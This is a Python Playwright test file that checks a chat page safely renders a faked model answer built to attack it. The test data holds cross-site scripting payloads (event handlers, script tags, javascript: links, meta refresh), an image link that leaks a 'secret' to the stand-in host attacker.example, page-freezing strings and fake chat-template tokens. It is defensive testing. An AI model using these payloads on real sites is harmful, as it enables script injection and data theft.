"""Row 45 of docs/faults.md: the chat page of a real server, and a model that answers with an attack.

The page, its policy and its model list come from the server. Only the answer's events are put in, between the
server and the page, so that any text can be one.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import Browser, Route, sync_playwright

from tests.app.server_process import ROOT
from tests.faults.harness import Service
from tests.static.chat_page import ChatPage
from tests.static.conftest import CHROMIUM_FLAGS, find_chromium
from tests.static.main_thread import task_times
from tests.tiers import tiered

pytestmark = pytest.mark.browser

FREEZE_MS = 200.0
ELSEWHERE = "http://attacker.example"

# Notes whatever an answer could make the page do.
WATCH = """
window.hit = [];
for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = (text) => { hit.push(name); };
"""

CODE = "const x=[" + "1234567890," * 95_000 + "];"
AWAY = f"'{ELSEWHERE}'"
ATTACKS: dict[str, str] = {
    "handler": f'Look: <img src=x onerror="alert(1)"><svg onload=alert(2)><iframe src={AWAY}></iframe>',
    "script": f"<script>alert(1)</script><script src={AWAY}></script><style>*{{display:none}}</style>",
    "link": "[click](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>) "
    "<a href='javascript:alert(1)'>x</a>",
    "image": f"![]({ELSEWHERE}/leak.png?secret) <img src={AWAY}> <link rel=prefetch href={AWAY}>",
    "form": f"<form action={AWAY}><button>go</button></form>"
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "dollars": "$" * 3001 + "\\frac{1}{" * 2000 + "$$ x $ y $$$",
    "quotes": "\n".join(">" * depth + " deep" for depth in range(1, 60)) + "\n" + ">" * 10_000 + " bottom",
    "brackets": "[" * 10_000 + "](" * 10_000 + "*_`~" * 2_500,
    "marks": "<|python_start|>" * 1000 + "1+1" + "<|output_start|>" * 1000 + "<|python_end|>",
    "directions": "\u202egnp.exe \u2066\u200b\x00\x07\x1b[31m" + "\u0301" * 1_000,
    "code": "```js\n" + CODE + "\n```",
}
PIECE = 4096  # characters of an event


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    path = find_chromium()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=CHROMIUM_FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def plain(browser: Browser, plain_service: Service) -> Service:
    """Behind the browser, so that a machine without one starts no server either."""
    return plain_service


# What markdown is made of (static/reading/elements.js), and the head of a block of code.
_BLOCKS = "div p h3 h4 h5 h6 ul ol li blockquote hr pre table thead tbody tr th td"
_PHRASES = "code strong em del br a img span button svg use input"
SHOWN = {*_BLOCKS.split(), *_PHRASES.split()}


@dataclass
class Attack:
    """The page, and the answer that its next question gets."""

    chat: ChatPage
    text: str = ""

    def answer(self, route: Route) -> None:
        pieces = [self.text[at : at + PIECE] for at in range(0, len(self.text), PIECE)]
        deltas = [{"content": piece} for piece in pieces]
        events = [({"role": "assistant", "content": ""}, None), *((d, None) for d in deltas), ({}, "stop")]
        data = "".join(
            f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta, 'finish_reason': finish}]})}\n\n"
            for delta, finish in events
        )
        route.fulfill(body=data + "data: [DONE]\n\n", content_type="text/event-stream; charset=utf-8")


@pytest.fixture(scope="module")
def attack(browser: Browser, plain: Service) -> Attack:
    page = browser.new_page()
    page.add_init_script(WATCH)
    attack = Attack(ChatPage(page))
    page.route("**/v1/chat/completions", attack.answer)
    page.route(f"{ELSEWHERE}/**", lambda route: route.abort())
    return attack


@pytest.mark.parametrize("name", tiered(ATTACKS, range(0, len(ATTACKS), 3)))
def test_45_an_answer_that_attacks_the_page(
    attack: Attack, service: Service, plain: Service, name: str
) -> None:
    """No script of it runs, nothing is asked of another origin, and the page does not freeze."""
    chat, page = attack.chat, attack.chat.page
    chat.open(f"http://127.0.0.1:{service.port}/")
    attack.text = ATTACKS[name]
    with task_times(page) as tasks:
        chat.send("Go on")
        # An `expect` that waits reads the whole page again and again, in tasks of the same thread.
        page.wait_for_selector(".answer[aria-busy=false]", state="attached", timeout=30_000)
        page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 50)))")
    check_harmless(attack)
    print(f"longest task of the page: {max(tasks):.0f} ms")
    assert max(tasks) < FREEZE_MS


def check_harmless(attack: Attack) -> None:
    chat, page = attack.chat, attack.chat.page
    assert page.evaluate("hit") == []
    found = page.evaluate(
        "() => [...document.querySelectorAll('.answer .body *')].map((e) => e.tagName.toLowerCase())"
    )
    assert set(found) <= SHOWN, set(found) - SHOWN
    strange = page.evaluate(
        """() => [...document.querySelectorAll('.answer .body *')].filter((element) => {
          const [link, source] = [element.getAttribute('href'), element.getAttribute('src')];
          const led = link !== null && element.localName === 'a' && !/^(https?:\\/\\/|mailto:)/.test(link);
          const drawn = link !== null && element.localName !== 'a' && !/^#icon-[a-z]+$/.test(link);
          const asked = source !== null && !source.startsWith('data:image/');
          return led || drawn || asked || element.getAttributeNames().some((name) => name.startsWith('on'));
        }).map((element) => element.outerHTML.slice(0, 200))"""
    )
    assert strange == []
    assert chat.body.text_content()
    page.mouse.click(5, 5)  # wherever an overlay might lie
    assert page.url.split("#")[0] == chat.url
    assert len(page.context.pages) == 1
    chat.check_clean()


def test_45_the_page_holds_no_text_as_markup(plain: Service, service: Service) -> None:
    """The policy that would stop what slipped through, as the server sends it."""
    policy = service.get("/").headers["content-security-policy"]
    rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split(";") if rule.strip()}
    assert rules["default-src"] == ["'none'"] and rules["script-src"] == ["'self'"]
    assert rules["connect-src"] == ["'self'"] and rules["form-action"] == ["'none'"]
    assert rules["base-uri"] == ["'none'"] and rules["frame-ancestors"] == ["'none'"]
    assert "unsafe" not in policy and "http" not in policy and "*" not in policy
    scripts = [path for path in (ROOT / "static").rglob("*.js") if "vendor" not in path.parts]
    assert len(scripts) > 50
    for script in scripts:
        assert "innerHTML" not in script.read_text() and "eval(" not in script.read_text(), script
